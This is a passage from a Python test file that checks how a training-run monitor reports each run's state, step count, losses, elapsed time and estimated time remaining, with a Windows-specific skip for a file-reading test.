    found = runs.Runs(tmp_path).find()
    done = runs.standing(found["a"], 1e9)
    assert (done.state, done.step, done.total, done.loss, done.val_loss, done.bpb) == (
        "finished",
        20,
        20,
        2.0,
        2.5,
        1.5,
    )
    assert done.elapsed == 3600 and done.eta is None and done.size.startswith("32")
    busy = runs.standing(found["b"], 50_060)
    # 80 s left × 10 tokens/s × 10 updates / 100 tokens = 80 updates
    assert (busy.state, busy.total, busy.eta) == ("running", 100, 80.0)
    assert runs.standing(found["b"], 1e9).state == "stopped"
    assert runs.standing(found["empty"], 1e9).step == 0


if sys.platform == "win32":  # a file that is open cannot be replaced there
    del test_a_growing_file_is_read_to_its_last_whole_line
